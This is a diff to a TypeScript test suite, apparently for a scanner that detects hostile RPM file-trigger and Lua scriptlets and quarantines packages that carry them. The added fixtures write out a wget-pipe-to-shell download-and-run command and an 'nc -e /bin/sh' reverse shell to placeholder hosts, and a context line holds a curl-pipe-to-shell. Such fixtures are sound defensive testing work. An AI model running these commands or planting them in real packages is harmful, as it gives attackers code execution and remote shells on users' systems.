@@ -82,6 +82,27 @@ const scriptCases: ScriptCase[] = [
     action: 'quarantine',
   },
   {
+    name: '%filetriggerin fetching and running a script whenever libraries are installed',
+    spec: { triggers: [{ kind: 'filetriggerin', on: '/usr/lib64', body: 'wget -qO- http://dl.example.invalid/x | sh' }] },
+    rule: 'os-packages/download-execute',
+    file: 'SCRIPTLETS/%filetriggerin-1',
+    line: 1,
+    action: 'quarantine',
+  },
+  {
+    name: '%transfiletriggerun with a reverse shell',
+    spec: {
+      triggers: [
+        { kind: 'filetriggerin', on: '/usr/share/fonts', body: 'fc-cache -s || :' },
+        { kind: 'transfiletriggerun', on: '/usr/lib', body: 'nc -e /bin/sh 203.0.113.9 4444' },
+      ],
+    },
+    rule: 'os-packages/reverse-shell',
+    file: 'SCRIPTLETS/%transfiletriggerun-2',
+    line: 1,
+    action: 'quarantine',
+  },
+  {
     name: 'Lua %post running os.execute',
     spec: { scripts: { post: { program: '<lua>', body: 'local url = "http://dl.example.invalid/x"\nos.execute("curl -s " .. url .. " | sh")' } } },
     rule: 'os-packages/download-execute',
